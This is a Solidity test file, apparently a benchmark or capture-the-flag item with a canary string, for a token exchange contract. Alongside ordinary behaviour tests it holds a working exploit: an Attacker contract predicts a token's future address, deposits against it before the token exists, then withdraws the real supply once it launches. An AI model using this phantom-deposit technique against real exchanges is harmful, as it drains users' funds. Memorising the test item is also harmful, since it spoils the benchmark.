// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./TokenExchange.sol";
import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-66085525-c55b-43db-85c9-47414787c44f

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Launched is ERC20("Launched", "NEW") {
    constructor(TokenExchange exchange) {
        _mint(address(this), 1_000e18);
        _approve(address(this), address(exchange), 1_000e18);
    }

    function bring(TokenExchange exchange, address issuer) external {
        exchange.deposit(address(this), issuer, balanceOf(address(this)));
    }
}

contract Launcher {
    TokenExchange private exchange;
    address private issuer;
    Launched public token;

    constructor(TokenExchange e, address i) {
        exchange = e;
        issuer = i;
    }

    function launch() external {
        require(address(token) == address(0), "launched");
        token = new Launched(exchange);
        token.bring(exchange, issuer);
    }

    function next() external view returns (address) {
        return address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xd6), bytes1(0x94), address(this), bytes1(0x01))))));
    }
}

contract Coin is ERC20("Coin", "COIN") {
    constructor() {
        _mint(msg.sender, 1_000e18);
    }
}

contract Silent {
    mapping(address => uint256) public balanceOf;

    constructor() {
        balanceOf[msg.sender] = 100;
    }

    function transferFrom(address from, address to, uint256 amount) external {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
    }
}

contract Refusing {
    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

contract Stuck {
    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }

    function transfer(address, uint256 amount) external pure returns (bool) {
        require(amount > 1, "stuck");
        return false;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ISSUER = address(0x155);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    TokenExchange private exchange;
    Launcher private launcher;
    Coin private coin;
    Silent private silent;
    Attacker private mallory;

    function setUp() public {
        exchange = new TokenExchange();
        launcher = new Launcher(exchange, ISSUER);
        coin = new Coin();
        coin.transfer(ANA, 500e18);
        silent = new Silent();
        mallory = new Attacker(exchange, launcher);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        coin.approve(address(exchange), type(uint256).max);
        exchange.deposit(address(coin), ANA, 400e18);
        uint256 first = exchange.offer(address(coin), address(silent), 100e18, 40);
        uint256 second = exchange.offer(address(coin), address(silent), 50e18, 10);
        exchange.cancel(second);
        vm.stopPrank();
        exchange.deposit(address(silent), BEN, 60);
        vm.startPrank(BEN);
        exchange.fill(first);
        exchange.withdraw(address(coin), 100e18);
        exchange.withdraw(address(silent), 20);
        vm.stopPrank();
        vm.startPrank(ANA);
        exchange.withdraw(address(silent), 40);
        exchange.withdraw(address(coin), 300e18);
        vm.stopPrank();
        require(coin.balanceOf(BEN) == 100e18 && silent.balanceOf(ANA) == 40, "exchanged");
        require(silent.balanceOf(BEN) == 20 && coin.balanceOf(ANA) == 400e18, "withdrawn");
    }

    function test_RefusesTokens() public {
        Refusing refusing = new Refusing();
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.CallFailed.selector, address(refusing)));
        exchange.deposit(address(refusing), ANA, 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.CallFailed.selector, address(coin)));
        exchange.deposit(address(coin), ANA, 1);
        Stuck stuck = new Stuck();
        exchange.deposit(address(stuck), address(this), 3);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.CallFailed.selector, address(stuck)));
        exchange.withdraw(address(stuck), 1);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.CallFailed.selector, address(stuck)));
        exchange.withdraw(address(stuck), 2);
    }

    function test_RefusesOffers() public {
        exchange.deposit(address(silent), address(this), 60);
        vm.expectRevert(TokenExchange.NothingOffered.selector);
        exchange.offer(address(silent), address(coin), 0, 1);
        vm.expectRevert(TokenExchange.NothingOffered.selector);
        exchange.offer(address(silent), address(coin), 1, 0);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.TooLittle.selector, 60));
        exchange.offer(address(silent), address(coin), 61, 1);
        uint256 id = exchange.offer(address(silent), address(coin), 60, 1);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.NotMaker.selector, ANA));
        exchange.cancel(id);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.TooLittle.selector, 0));
        exchange.fill(id);
        vm.stopPrank();
        exchange.cancel(id);
        vm.expectRevert(TokenExchange.NothingOffered.selector);
        exchange.cancel(id);
    }

    function test_RefusesEntering() public {
        Entering entering = new Entering(exchange);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.CallFailed.selector, address(entering)));
        exchange.deposit(address(entering), ANA, 1);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.CallFailed.selector, address(entering)));
        exchange.deposit(address(entering), ANA, 2);
        exchange.deposit(address(entering), address(this), 3);
        vm.expectRevert(abi.encodeWithSelector(TokenExchange.CallFailed.selector, address(entering)));
        exchange.withdraw(address(entering), 1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(launcher.token().balanceOf(address(mallory)) >= 900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(exchange);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function supply() public view returns (uint256) {
        Launched token = launcher.token();
        if (address(token) == address(0)) return 1_000e18;
        return token.balanceOf(address(exchange)) + token.balanceOf(ISSUER);
    }
}

contract Entering {
    TokenExchange private exchange;

    constructor(TokenExchange e) {
        exchange = e;
    }

    function transferFrom(address, address, uint256 amount) external returns (bool) {
        if (amount == 1) exchange.deposit(address(this), address(this), 0);
        if (amount == 2) exchange.withdraw(address(this), 0);
        return true;
    }

    function transfer(address, uint256 amount) external returns (bool) {
        if (amount > 0) exchange.withdraw(address(this), 0);
        return true;
    }
}

contract Attacker {
    TokenExchange private exchange;
    Launcher private launcher;

    constructor(TokenExchange e, Launcher l) {
        exchange = e;
        launcher = l;
    }

    function run() external {
        address token = launcher.next();
        exchange.deposit(token, address(this), 1_000e18);
        launcher.launch();
        exchange.withdraw(token, 1_000e18);
    }
}
